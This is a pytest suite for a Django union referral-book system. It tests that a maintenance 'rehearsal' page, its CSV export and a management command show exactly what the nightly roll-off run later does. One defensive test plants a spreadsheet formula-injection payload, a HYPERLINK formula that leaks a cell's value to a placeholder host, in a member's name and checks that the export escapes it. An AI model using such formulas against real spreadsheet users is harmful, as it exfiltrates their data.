"""The cut-over rehearsal (issue 17, item 3; decision 0029): the plan of a night's book
maintenance — who rolls off which book and why, which exemptions end — is the very plan the run
applies. Shown by the console page and the command, it changes nothing, and the real run of the
same day then does exactly what it showed."""

import csv
import datetime
import io

import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.urls import reverse

from members.tests.factories import MemberFactory
from referral import selectors, services
from referral.enums import RegistrationAction, RegistrationStatus, RollOffReason
from referral.models import BookRegistration, MaintenanceRun, ReferralBook, RegistrationActivity
from unioncore.testing import at
from unioncore.tests.factories import StaffFactory

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]  # the rehearsal works on make run's SQLite too

D = datetime.date
S = RegistrationStatus
# Thanksgiving week 2026: Thursday 26 and Friday 27 are holidays, then a weekend.
SIGNED_UP = D(2026, 10, 26)  # re-sign due Wednesday Nov 25
FRIDAY = D(2026, 11, 20)  # staff look on the Friday before
WEDNESDAY = D(2026, 11, 25)
MONDAY = D(2026, 11, 30)  # the next run that does anything: missed re-signs roll off
PAGE = reverse("admin:referral_referralbook_rehearsal")


def state() -> tuple:
    """Everything the maintenance may write: the registrations, their activities, the runs and
    the history of all three."""
    return (
        list(BookRegistration.objects.order_by("id").values()),
        list(RegistrationActivity.objects.order_by("id").values_list("id", flat=True)),
        list(MaintenanceRun.objects.order_by("id").values()),
        BookRegistration.history.count(),
        RegistrationActivity.history.count(),
        MaintenanceRun.history.count(),
    )


def planned(plan: selectors.MaintenancePlan) -> set[tuple[int, str]]:
    return {(action.registration.pk, action.step) for action in plan.actions}


def run_night(day, system_user) -> tuple[dict, set[tuple[int, str]]]:
    """The real nightly run of `day` (at 00:30, as the beat runs it), and what it did: each
    registration rolled off with its reason, each exemption ended."""
    before = set(BookRegistration.objects.active().values_list("id", flat=True))
    ended_before = set(
        RegistrationActivity.objects.filter(action=RegistrationAction.EXEMPT_OFF).values_list("id", flat=True)
    )
    with time_machine.travel(datetime.datetime.combine(day, datetime.time(0, 30), tzinfo=at(day).tzinfo), tick=False):
        result = services.daily_book_maintenance(today=day, by=system_user)
    rolled = BookRegistration.objects.filter(pk__in=before, status=S.ROLLED_OFF)
    done = {(r.pk, r.roll_off_reason) for r in rolled}
    ended = RegistrationActivity.objects.filter(action=RegistrationAction.EXEMPT_OFF).exclude(pk__in=ended_before)
    done |= {(a.registration_id, selectors.EXEMPTION_ENDED) for a in ended}
    return result, done


def book(code):
    return ReferralBook.objects.get(code=code)


@pytest.fixture
def night(register, dispatcher):
    """Something of every kind for the run of MONDAY, on two books, and a member who is late
    back from a short call on one book and also on two others (one of which owes a re-sign)."""
    seattle, bremerton, tradeshow = book("WIRE_SEA_1"), book("WIRE_BRE_1"), book("TRADE_SEA_1")
    with time_machine.travel(at(SIGNED_UP), tick=False):
        missed = register(seattle, when=at(SIGNED_UP))
        missed_too = register(bremerton, when=at(SIGNED_UP))
        late_member = MemberFactory()
        late_elsewhere = register(bremerton, member=late_member, when=at(SIGNED_UP))  # also owes a re-sign
    with time_machine.travel(at(D(2026, 11, 2)), tick=False):
        exempt = register(seattle)
        services.registration_exempt_on(
            registration_id=exempt.pk, by=dispatcher, exempt_reason="medical", exempt_until=D(2026, 11, 27)
        )
        open_ended = register(tradeshow)
        services.registration_exempt_on(
            registration_id=open_ended.pk, by=dispatcher, exempt_reason="military", exempt_until=D(2027, 3, 1)
        )
    with time_machine.travel(at(D(2026, 8, 31)), tick=False):
        long_call = register(bremerton)
        services.registration_dispatch(registration_id=long_call.pk, by=dispatcher, short_call=False)
    with time_machine.travel(at(D(2026, 9, 1)), tick=False):  # day 90 on Monday: stays
        day_ninety = register(bremerton)
        services.registration_dispatch(registration_id=day_ninety.pk, by=dispatcher, short_call=False)
    with time_machine.travel(at(D(2026, 11, 20)), tick=False):
        short = register(seattle, member=late_member)
        late_third = register(tradeshow, member=late_member)
        services.registration_dispatch(registration_id=short.pk, by=dispatcher, short_call=True)
    with time_machine.travel(at(D(2026, 11, 24)), tick=False):
        services.registration_short_call_ended(
            registration_id=short.pk, by=dispatcher, counts=False, ended_on=D(2026, 11, 24), max_restorations=2
        )  # re-register by Wednesday Nov 25
        fresh = register(seattle)
    return {
        "missed": missed, "missed_too": missed_too, "late_elsewhere": late_elsewhere, "exempt": exempt,
        "open_ended": open_ended, "long_call": long_call, "day_ninety": day_ninety, "short": short,
        "late_third": late_third, "fresh": fresh,
    }  # fmt: skip


def test_the_plan_says_who_goes_and_why_and_the_run_then_does_exactly_that(night, system_user):
    before = state()
    plan = selectors.maintenance_plan(day=MONDAY)
    assert state() == before, "a plan changes nothing"
    n = {name: r.pk for name, r in night.items()}
    late = RollOffReason.LATE_RE_REGISTRATION
    # The late member leaves all three books; their Bremerton registration goes once, for the
    # reason of whichever book's run (in id order) comes to it first.
    bremerton_first = book("WIRE_BRE_1").pk < book("WIRE_SEA_1").pk
    assert planned(plan) == {
        (n["missed"], RollOffReason.RE_SIGN_MISSED),
        (n["missed_too"], RollOffReason.RE_SIGN_MISSED),
        (n["late_elsewhere"], RollOffReason.RE_SIGN_MISSED if bremerton_first else late),
        (n["exempt"], selectors.EXEMPTION_ENDED),
        (n["long_call"], RollOffReason.LONG_CALL),
        (n["short"], late),
        (n["late_third"], late),
    }
    dues = {(a.registration.pk, a.step): a.due for a in plan.actions}
    assert dues[n["missed"], RollOffReason.RE_SIGN_MISSED] == D(2026, 11, 25)
    assert dues[n["exempt"], selectors.EXEMPTION_ENDED] == D(2026, 11, 27)
    assert dues[n["long_call"], RollOffReason.LONG_CALL] == D(2026, 11, 29)  # Aug 31 + 90 days
    assert dues[n["short"], late] == D(2026, 11, 25)

    result, done = run_night(MONDAY, system_user)
    assert done == planned(plan)
    for book_plan in plan.books:
        assert result[book_plan.book.code] == book_plan.counts(), book_plan.book.code
    assert BookRegistration.objects.get(pk=n["exempt"]).re_sign_due == D(2026, 12, 30)
    assert {BookRegistration.objects.get(pk=n[k]).status for k in ("fresh", "day_ninety", "open_ended")} == {
        S.REGISTERED,
        S.DISPATCHED,
    }
    # Once run, the day's plan is empty: a second run does nothing.
    again = selectors.maintenance_plan(day=MONDAY)
    assert again.actions == []
    assert all(p.already_run for p in again.books)


def test_nothing_is_planned_on_a_holiday_or_a_weekend(night):
    for day in (D(2026, 11, 26), D(2026, 11, 28)):
        plan = selectors.maintenance_plan(day=day)
        assert (plan.business_day, plan.books) == (False, [])


def test_the_next_run_is_the_next_business_day():
    assert selectors.next_maintenance_day(today=WEDNESDAY) == MONDAY  # Thanksgiving, Friday, weekend
    assert selectors.next_maintenance_day(today=MONDAY) == D(2026, 12, 1)


# --- The console page ---


@pytest.fixture
def as_dispatcher(client, dispatcher):
    client.force_login(dispatcher)
    return client


def test_the_page_shows_the_next_run_per_book_and_changes_nothing(night, as_dispatcher, system_user):
    before = state()
    with time_machine.travel(at(WEDNESDAY, 10), tick=False):
        response = as_dispatcher.get(PAGE)
    assert response.status_code == 200
    assert state() == before
    page = response.content.decode()
    assert "Monday, November 30, 2026" in page, "the default is the next business day's run"
    plan = response.context["plan"]
    assert planned(plan) == planned(selectors.maintenance_plan(day=MONDAY))
    missed = night["missed"]
    assert missed.member.last_name in page
    assert missed.member.card_number in page
    assert "Dropped due to re-sign" in page
    assert "2026-11-25" in page
    assert "Dispatched over the book&#x27;s limit (long call)" in page
    assert "Did not re-register by the end of the next working day" in page
    assert "Exemption period ended" in page
    assert f"{len(plan.roll_offs)} roll-offs" in page
    assert sum(response.context["totals"]) == len(plan.actions)
    summary = {row["plan"].book.code: row["roll_offs"] for row in response.context["summary"]}
    # The late member's tradeshow registration goes with Seattle's run (the short call is there).
    assert summary["WIRE_SEA_1"] >= 3
    assert summary["TRADE_SEA_1"] == 0

    _result, done = run_night(MONDAY, system_user)
    assert done == planned(plan), "the page showed what the run then did"


def test_the_page_takes_a_day_and_offers_the_rows_as_csv(night, as_dispatcher):
    with time_machine.travel(at(FRIDAY, 10), tick=False):
        response = as_dispatcher.get(PAGE, {"day": "2026-11-30", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {(int(r["registration_id"]), r["reason"]) for r in rows} == {
        (a.registration.pk, a.label) for a in selectors.maintenance_plan(day=MONDAY).actions
    }
    assert {r["run_on"] for r in rows} == {"2026-11-30"}


def test_a_name_a_spreadsheet_would_evaluate_is_text_in_the_csv(night, as_dispatcher):
    """Issue 20, finding 2: the CSV a dispatcher opens in Excel runs no member's formula."""
    formula = '=HYPERLINK("http://x/?"&A2,"x")'
    night["missed"].member.__class__.objects.filter(pk=night["missed"].member_id).update(last_name=formula)
    with time_machine.travel(at(FRIDAY, 10), tick=False):
        response = as_dispatcher.get(PAGE, {"day": "2026-11-30", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = [r["member"] for r in rows if int(r["registration_id"]) == night["missed"].pk]
    assert names
    assert all(name.startswith("'" + formula) for name in names), names
    assert all(r["apn"][0].isdigit() for r in rows), "the APNs stay numbers"


@pytest.mark.parametrize(
    ("day", "says"),
    [("2026-02-30", "Enter a valid date"), ("9999-12-31", "within a year of today"), ("2026-11-28", "No run")],
)
def test_a_bad_or_idle_day_is_said_plainly(night, as_dispatcher, day, says):
    before = state()
    with time_machine.travel(at(FRIDAY, 10), tick=False):
        response = as_dispatcher.get(PAGE, {"day": day})
    assert response.status_code == 200
    assert says in response.content.decode()
    assert state() == before


def test_only_staff_who_may_view_registrations_see_the_page(client):
    client.force_login(StaffFactory(groups=["nobody"]))
    assert client.get(PAGE).status_code == 403
    client.logout()
    assert client.get(PAGE).status_code == 302  # to the login


def test_the_books_list_links_to_the_rehearsal(as_dispatcher):
    response = as_dispatcher.get(reverse("admin:referral_referralbook_changelist"))
    assert PAGE in response.content.decode()


# --- The command ---


def test_the_command_prints_the_plan_and_writes_it_as_csv(night, tmp_path, system_user):
    before = state()
    out, path = io.StringIO(), tmp_path / "night.csv"
    with time_machine.travel(at(FRIDAY, 10), tick=False):
        call_command("rehearse_maintenance", "--date", "2026-11-30", "--csv", str(path), stdout=out)
    assert state() == before
    text = out.getvalue()
    plan = selectors.maintenance_plan(day=MONDAY)
    assert "The nightly run of Monday 2026-11-30" in text
    assert f"{len(plan.roll_offs)} roll-offs" in text
    assert f"card {night['missed'].member.card_number}" in text
    assert "re-sign was due 2026-11-25" in text
    with path.open() as f:
        assert len(list(csv.DictReader(f))) == len(plan.actions)
    with time_machine.travel(at(FRIDAY, 10), tick=False):
        default = io.StringIO()
        call_command("rehearse_maintenance", stdout=default)
    assert "The nightly run of Monday 2026-11-23" in default.getvalue()


@pytest.mark.parametrize("day", ["30/11/2026", "2031-01-01"])
def test_the_command_refuses_a_bad_date(day):
    with time_machine.travel(at(FRIDAY, 10), tick=False), pytest.raises(CommandError):
        call_command("rehearse_maintenance", "--date", day, stdout=io.StringIO())
